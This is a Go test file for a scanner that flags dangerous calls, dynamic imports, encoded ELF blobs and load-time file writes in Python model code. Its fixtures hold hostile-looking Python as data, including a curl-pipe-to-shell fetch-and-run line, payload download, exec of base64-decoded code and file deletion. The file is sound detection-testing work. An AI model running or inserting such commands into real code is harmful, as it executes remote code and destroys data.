package pysrc

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/policy"
	"github.com/modelscan-go/modelscan/internal/rules"
)

var testPol = policy.Default()

// scanSrc runs the module scan and returns its findings by dotted name
// (Module.Operator, or the hit name of blobs).
func scanSrc(t *testing.T, src string) map[string]core.Finding {
	t.Helper()
	var h Hits
	ScanModule(testPol, src, "repo.modeling_x", false, &h)
	out := map[string]core.Finding{}
	for _, f := range h.Findings("modeling_x.py", "Python source") {
		out[strings.TrimPrefix(f.Module+"."+f.Operator, ".")] = f
	}
	if len(out) != h.Len() {
		t.Errorf("%d findings for %d hits", len(out), h.Len())
	}
	return out
}

func TestScanModuleDangerous(t *testing.T) {
	src := `import os, base64
import subprocess as sp
from urllib.request import urlretrieve

def setup():
    os.system("curl -s http://x | sh")
    sp.Popen(["id"])
    urlretrieve("http://x/payload.bin", "/tmp/p")
    exec(base64.b64decode("cHJpbnQoMSk="))
`
	got := scanSrc(t, src)
	want := map[string]struct {
		sev core.Severity
		ev  string
	}{
		"os.system":                  {core.Critical, "modeling_x.py:6: os.system('curl -s http://x | sh')"},
		"subprocess.Popen":           {core.Critical, "modeling_x.py:7:"},
		"urllib.request.urlretrieve": {core.High, "modeling_x.py:8:"},
		"builtins.exec":              {core.Critical, "runs a payload decoded by base64.b64decode"},
	}
	for name, w := range want {
		f, ok := got[name]
		if !ok || f.Severity != w.sev || !strings.Contains(f.Evidence, w.ev) || f.Rule != rules.SourceDangerousCall {
			t.Errorf("%s: want %s with %q, got %+v", name, w.sev, w.ev, f)
		}
	}
	if len(got) != len(want) {
		t.Errorf("got %d findings, want %d: %v", len(got), len(want), got)
	}
}

func TestScanModuleImports(t *testing.T) {
	cases := []struct {
		name, src, hit string
		sev            core.Severity // 0: no finding at all
	}{
		{"literal benign import", "import importlib\nm = importlib.import_module('flash_attn')\n", "", 0},
		{"feature probe", "import importlib.util\nok = importlib.util.find_spec('flash_attn') is not None\n", "", 0},
		{"version probe", "import importlib.metadata\nv = importlib.metadata.version('torch')\n", "", 0},
		{"literal denied module", "import importlib\nimportlib.import_module('subprocess')\n", "importlib.import_module", core.Critical},
		{"computed module", "import importlib\nimportlib.import_module('o' + 's')\n", "importlib.import_module", core.Critical},
		{"alias through import_module", "from importlib import import_module\nm = import_module('os')\nm.system('id')\n", "os.system", core.Critical},
		{"alias through __import__", "o = __import__('os.path')\no.system('id')\n", "os.system", core.Critical},
		{"dunder import", "__import__('os').system('id')\n", "builtins.__import__", core.Critical},
		{"reference without call", "import importlib\nf = importlib.import_module\n", "importlib.import_module", core.Critical},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := scanSrc(t, c.src)
			if c.sev == 0 {
				if len(got) != 0 {
					t.Errorf("want no findings, got %v", got)
				}
				return
			}
			if f, ok := got[c.hit]; !ok || f.Severity != c.sev {
				t.Errorf("want %s %s, got %v", c.hit, c.sev, got)
			}
		})
	}
}

func TestScanModuleBlobs(t *testing.T) {
	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 600)...)
	for i := range elf[7:] {
		elf[7+i] = byte(i*7 + 3)
	}
	b64 := base64.StdEncoding.EncodeToString(elf)
	// wrapped at 76 columns, as base64 tools print it
	var wrapped strings.Builder
	for i := 0; i < len(b64); i += 76 {
		wrapped.WriteString(b64[i:min(i+76, len(b64))] + "\n")
	}
	cases := []struct {
		name, src, what string
		blob            bool
	}{
		{"one literal", "K = '" + b64 + "'\n", "an ELF executable", true},
		{"adjacent literals", "K = ('" + b64[:400] + "'\n     '" + b64[400:] + "')\n", "an ELF executable", true},
		{"triple quoted, wrapped", "K = \"\"\"\n" + wrapped.String() + "\"\"\"\n", "an ELF executable", true},
		{"hex", "K = bytes.fromhex('" + hex.EncodeToString([]byte(strings.Repeat("import os\n", 40))) + "')\n", "text", true},
		{"prefixed bzip2", "K = '$" + base64.StdEncoding.EncodeToString(append([]byte("BZh91AY&SY"), elf[7:]...)) + "'\n", "bzip2", true},
		{"escaped bytes", "K = b'" + strings.Repeat("\\x7fELF\\x02\\x01", 60) + "'\n", "an ELF executable", true},
		{"few escapes", "K = b'" + strings.Repeat("ab\\x00", 60) + "'\n", "", false},
		{"prose docstring", "'''" + strings.Repeat("The model uses rotary embeddings 1 2 3. ", 40) + "'''\n", "", false},
		{"short literal", "K = '" + b64[:400] + "'\n", "", false},
		{"no digits", "K = '" + strings.Repeat("abcDEF", 200) + "'\n", "", false},
		{"f-string", "K = f'" + b64 + "'\n", "", false},
		{"url list", "U = '" + strings.Repeat("https://example.com/a/b/c?x=1&y=2;", 30) + "'\n", "", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := scanSrc(t, c.src)
			f, ok := got[blobName]
			if ok != c.blob {
				t.Fatalf("blob reported: %v, want %v (%v)", ok, c.blob, got)
			}
			if !ok {
				return
			}
			if f.Rule != rules.SourceEncodedBlob || f.Severity != core.High || !strings.Contains(f.Evidence, "modeling_x.py:1:") ||
				!strings.Contains(f.Description, c.what) {
				t.Errorf("finding %+v, want %q", f, c.what)
			}
		})
	}
	// several blobs in one file: one finding naming every line
	got := scanSrc(t, "A = '"+b64+"'\nB = 1\nC = '"+b64+"'\n")
	if f := got[blobName]; !strings.Contains(f.Evidence, "2 uses, lines 1, 3") {
		t.Errorf("two blobs: %+v", f)
	}
}

// Everyday model code: reads the environment, probes packages, opens files
// for reading, defines its own names that shadow builtins.
func TestScanModuleQuiet(t *testing.T) {
	src := `import math, os, sys, warnings
import importlib.util
from typing import Optional

import torch
from torch import nn

from .configuration_x import XConfig

_flash = importlib.util.find_spec("flash_attn") is not None
if sys.version_info < (3, 8):
    warnings.warn("old python")


def compile(x):
    return x


class XAttention(nn.Module):
    def __init__(self, config: XConfig, open: Optional[int] = None):
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.cache_dir = os.environ.get("HF_HOME", os.path.join(os.getcwd(), ".cache"))
        setattr(self, "rope", None)
        with open(os.path.join(self.cache_dir, "vocab.txt")) as fh:
            self.vocab = fh.read()
        self.key = "os.system('id')"  # eval(x) in a comment

    def forward(self, x):
        return compile(torch.softmax(x * self.scale, dim=-1))
`
	if got := scanSrc(t, src); len(got) != 0 {
		t.Errorf("unexpected findings: %v", got)
	}
}

// File writes in the save hooks of model code are notes; the same write at
// load time (module level, __init__) is a finding.
func TestScanModuleSaveHooks(t *testing.T) {
	src := `import os, shutil


class XTokenizer(PreTrainedTokenizer):
    def __init__(self, vocab_file, **kwargs):
        self.vocab_file = vocab_file

    @property
    def vocab_size(self):
        return 10

    def save_vocabulary(self, save_directory, filename_prefix=None):
        os.makedirs(save_directory, exist_ok=True)
        out = os.path.join(save_directory, "vocab.model")
        with open(out, "wb") as fh:
            fh.write(b"...")
        return (out,)

    async def to_json_file(self, path): open(path, "w").write("{}")

    def prepare(self):
        shutil.rmtree("/tmp/x")
`
	got := scanSrc(t, src)
	want := map[string]core.Severity{"os.makedirs": core.Low, "builtins.open": core.Low, "shutil.rmtree": core.High}
	for name, sev := range want {
		if f, ok := got[name]; !ok || f.Severity != sev {
			t.Errorf("%s: want %s, got %+v", name, sev, f)
		}
	}
	if f := got["builtins.open"]; !strings.Contains(f.Description, "save_vocabulary()") || !strings.Contains(f.Evidence, "2 uses") {
		t.Errorf("open: %+v", f)
	}
	if len(got) != len(want) {
		t.Errorf("findings %v", got)
	}
	// os.system stays critical in a save hook
	got = scanSrc(t, "import os\nclass T:\n    def save_pretrained(self, d):\n        os.system('id')\n")
	if f := got["os.system"]; f.Severity != core.Critical {
		t.Errorf("os.system in a save hook: %+v", f)
	}
	// the hook ends where the indentation does
	got = scanSrc(t, "import os\ndef save_vocabulary(d):\n    pass\nos.remove('/etc/x')\n")
	if f := got["os.remove"]; f.Severity != core.High {
		t.Errorf("module-level write after a hook: %+v", f)
	}
}
